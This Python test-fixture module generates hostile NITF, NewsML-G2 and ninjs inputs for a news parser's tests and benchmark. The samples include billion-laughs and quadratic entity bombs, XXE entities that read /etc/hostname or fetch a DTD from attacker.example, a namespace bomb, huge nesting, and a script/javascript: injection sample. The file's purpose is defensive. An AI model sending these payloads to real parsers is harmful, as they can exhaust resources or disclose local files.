"""Hostile input in the formats of news: name, format and bytes. Read by tests, and with a stop-watch by a benchmark."""

import json
from collections.abc import Callable, Mapping
from typing import Final

Hostile = tuple[str, Callable[[], bytes]]

_BODY: Final = "<body><body.head><hedline><hl1>Ferry</hl1></hedline></body.head><body.content>{}</body.content></body>"


def nitf(content: str, before: str = "") -> bytes:
    """A NITF document around a content, with a DOCTYPE of its own before it."""
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<nitf>{_BODY.format(content)}</nitf>'.encode()


def news_item(content: str) -> bytes:
    """A NewsML-G2 text item around the inside of its contentSet."""
    return (
        '<newsItem guid="urn:x"><itemMeta><itemClass qcode="ninat:text"/></itemMeta><contentMeta><headline>Ferry'
        f"</headline></contentMeta><contentSet>{content}</contentSet></newsItem>"
    ).encode()


def ninjs(**members: object) -> bytes:
    """A ninjs text with these members."""
    return json.dumps({"uri": "urn:x", "type": "text", "headline": "Ferry", **members}).encode()


def _bomb() -> bytes:
    """A billion laughs."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return nitf("<p>&e9;</p>", f'<!DOCTYPE nitf [<!ENTITY e0 "ha">{entities}]>')


def _quadratic() -> bytes:
    """One long entity, many times."""
    return nitf("<p>" + "&a;" * 50_000 + "</p>", f'<!DOCTYPE nitf [<!ENTITY a "{"x" * 50_000}">]>')


def _external(address: str) -> bytes:
    return nitf("<p>&x;</p>", f'<!DOCTYPE nitf [<!ENTITY x SYSTEM "{address}">]>')


def _defaults() -> bytes:
    """A long default value for an attribute of many elements."""
    return nitf("<p/>" * 100_000, f'<!DOCTYPE nitf [<!ATTLIST p a CDATA "{"x" * 100_000}">]>')


def _parameter() -> bytes:
    return nitf("<p>x</p>", '<!DOCTYPE nitf [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>')


REFUSED: Final[Mapping[str, Hostile]] = {
    "nitf: billion laughs": ("nitf", _bomb),
    "nitf: quadratic entity": ("nitf", _quadratic),
    "nitf: external entity, file": ("nitf", lambda: _external("file:///etc/hostname")),
    "nitf: external entity, web": ("nitf", lambda: _external("http://127.0.0.1:9/x")),
    "nitf: external parameter entity": ("nitf", _parameter),
    "nitf: default values of attributes": ("nitf", _defaults),
    "nitf: 100,000 deep": ("nitf", lambda: nitf("<em>" * 100_000 + "x" + "</em>" * 100_000)),
    "nitf: 5,000,000 empty elements": ("nitf", lambda: nitf("<p/>" * 3_900_000)),
    "nitf: 15 MB of text": ("nitf", lambda: nitf("<p>" + "word " * 3_000_000 + "</p>")),
    "nitf: 7.9 MB of text": ("nitf", lambda: nitf("<p>" + "word " * 1_580_000 + "</p>")),
    "nitf: 50 MB": ("nitf", lambda: nitf("<p>" + "word " * 10_000_000 + "</p>")),
    "nitf: NUL": ("nitf", lambda: nitf("<p>a\0b</p>")),
    "nitf: breaks off": ("nitf", lambda: nitf("<p>The council voted.</p>")[:-30]),
    "nitf: no end of a comment": ("nitf", lambda: nitf("<!--" + "- " * 3_000_000)),
    "nitf: no end of CDATA, anew": ("nitf", lambda: nitf("<![CDATA[ " * 700_000)),
    "nitf: UTF-16 that is none": ("nitf", lambda: b"\xff\xfe" + nitf("<p>x</p>")),
    "newsml: 100,000 items": (
        "newsml-g2",
        lambda: b"<newsMessage>" + b"<newsItem>a</newsItem>" * 60_000 + b"</newsMessage>",
    ),
    "newsml: only a picture": (
        "newsml-g2",
        lambda: b'<newsItem><itemMeta><itemClass qcode="ninat:picture"/></itemMeta></newsItem>',
    ),
    "newsml: namespace bomb": (
        "newsml-g2",
        lambda: b"<newsItem " + b" ".join(b'xmlns:a%d="urn:%d"' % (n, n) for n in range(100_000)) + b"/>",
    ),
    "ninjs: 200,000 deep": ("ninjs", lambda: b'{"uri": ' + b"[" * 200_000),
    "ninjs: number of a million digits": ("ninjs", lambda: b'{"uri": "x", "version": ' + b"9" * 1_000_000 + b"}"),
    "ninjs: 15 MB body": ("ninjs", lambda: ninjs(body_html="<p>word</p>" * 1_300_000)),
    "ninjs: 100,000 items": ("ninjs", lambda: json.dumps([{"uri": "x", "headline": "y"}] * 100_000).encode()),
    "ninjs: breaks off": ("ninjs", lambda: ninjs(body_html="<p>word</p>")[:-2]),
    "ninjs: 37 bodies of 39,000 em": (
        "ninjs",
        lambda: json.dumps([{"uri": "x", "body_html": "<p>" + "<em>a</em> " * 39_000}] * 37).encode(),
    ),
    "ninjs: headline of 10 MB": ("ninjs", lambda: ninjs(headline="word " * 2_000_000)),
    "newsml: CDATA of 400,000 tags": (
        "newsml-g2",
        lambda: news_item("<inlineData><![CDATA[" + "<p>x</p>" * 200_000 + "]]></inlineData>"),
    ),
}

READ: Final[Mapping[str, Hostile]] = {
    "nitf: DOCTYPE of the DTD": ("nitf", lambda: nitf("<p>Voted.</p>", '<!DOCTYPE nitf SYSTEM "nitf-3-3.dtd">')),
    "nitf: DOCTYPE on the web": (
        "nitf",
        lambda: nitf("<p>Voted.</p>", '<!DOCTYPE nitf PUBLIC "-//IPTC//DTD NITF 3.3//EN" "http://127.0.0.1:9/n.dtd">'),
    ),
    "nitf: control characters": ("nitf", lambda: nitf("<p>The \x03council\x1b voted.</p>" * 1_000)),
    "nitf: 190 deep": ("nitf", lambda: nitf("<em>" * 190 + "Voted." + "</em>" * 190)),
    "nitf: 18,000 em in one p": ("nitf", lambda: nitf("<p>" + "<em>a</em> " * 18_000 + "</p>")),
    "nitf: 1.9 MB of text": ("nitf", lambda: nitf("<p>" + "word " * 380_000 + "</p>")),
    "nitf: 390,000 ampersands": ("nitf", lambda: nitf("<p>" + "&amp;" * 390_000 + "</p>")),
    "nitf: 200,000 bare ampersands": ("nitf", lambda: nitf("<p>" + "a & b" * 200_000 + "</p>")),
    "nitf: 900,000 line ends": ("nitf", lambda: nitf("<p>a" + "\r\n" * 900_000 + "b</p>")),
    "nitf: 200,000 indented lines": ("nitf", lambda: nitf("<p>The council voted" + "\n   and\nvoted" * 4_000 + "</p>")),
    "nitf: 100,000 breaks": (
        "nitf",
        lambda: nitf("<p>" + "The council voted to keep the ferry for now<br/>" * 30_000 + "</p>"),
    ),
    "nitf: underscores": ("nitf", lambda: nitf("<p>" + "_ " * 500_000 + "x</p>")),
    "nitf: spaces": ("nitf", lambda: nitf("<p>x" + " " * 1_500_000 + "x</p><p>" + "\n" * 400_000 + ".</p>")),
    "nitf: pre": ("nitf", lambda: nitf("<pre>" + "The council voted to keep the ferry, at last,\n" * 9_000 + "</pre>")),
    "nitf: scripts and handlers": (
        "nitf",
        lambda: nitf('<p onclick="x()">Voted.</p><script>alert(1)</script><p><a href="javascript:x">a</a></p>'),
    ),
    "nitf: right-to-left marks": ("nitf", lambda: nitf("<p>" + "\u202eabc\u202c\u200f" * 50_000 + "</p>")),
    "newsml: 5,000 links": (
        "newsml-g2",
        lambda: news_item("<inlineXML><html><body>" + "<p>Voted.</p>" * 5_000 + "</body></html></inlineXML>").replace(
            b"</itemMeta>", b'<link residref="x"><title>Another</title></link>' * 5_000 + b"</itemMeta>"
        ),
    ),
    "newsml: message of 400 texts and 90 pictures": (
        "newsml-g2",
        lambda: (
            b"<newsMessage>"
            + news_item("<inlineData>The council voted.</inlineData>") * 400
            + news_item("").replace(b"ninat:text", b"ninat:picture") * 90
            + b"</newsMessage>"
        ),
    ),
    "ninjs: 50,000 associations": (
        "ninjs",
        lambda: ninjs(body_text="Voted.", associations=[{"type": "picture", "renditions": {}}] * 50_000),
    ),
    "ninjs: 50,000 bodies": (
        "ninjs",
        lambda: ninjs(bodies=[{"contentType": "text/html", "value": "<p>The council voted to keep it.</p>"}] * 50_000),
    ),
    "ninjs: body of tags that end nowhere": ("ninjs", lambda: ninjs(body_html="<p <b <" * 250_000 + "<p>Voted.")),
    "ninjs: lone surrogates": (
        "ninjs",
        lambda: (
            b'{"uri": "x", "headline": "a\\ud800", "body_text": "Vot\\udfffed.", "\\ud800": 1, "located": "\\udc00"}'
        ),
    ),
    "ninjs: 100,000 unknown fields": (
        "ninjs",
        lambda: ninjs(body_text="Voted.", **{f"f{n}": n for n in range(100_000)}),
    ),
    "ninjs: a long text and 99 others": (
        "ninjs",
        lambda: ninjs(
            body_text="word " * 390_000, **{f"body_{n}": f"Another text of its own, number {n}." for n in range(99)}
        ),
    ),
    "nitf: 95 p in em in p": (
        "nitf",
        lambda: nitf("<p>The council. <em>" * 90 + "word " * 100_000 + "</em></p>" * 90),
    ),
    "nitf: 95 media in each other": (
        "nitf",
        lambda: nitf("<p>Voted.</p>" + "<media>" * 95 + "<media-caption>c</media-caption>" * 9_000 + "</media>" * 95),
    ),
    "newsml: groups in each other": (
        "newsml-g2",
        lambda: (
            b"<newsMessage><packageItem><groupSet>"
            + b"<group>" * 150
            + b'<itemRef residref="urn:x"/>' * 15_000
            + b"</group>" * 150
            + b"</groupSet></packageItem>"
            + news_item("<inlineData>The council voted.</inlineData>")
            + news_item("").replace(b"ninat:text", b"ninat:picture") * 400
            + b"</newsMessage>"
        ),
    ),
    "newsml: 18 texts of 2,000 em": (
        "newsml-g2",
        lambda: (
            b"<newsMessage>"
            + news_item("<inlineXML><html><body><p>" + "<em>a</em> " * 2_000 + "</p></body></html></inlineXML>") * 18
            + b"</newsMessage>"
        ),
    ),
}
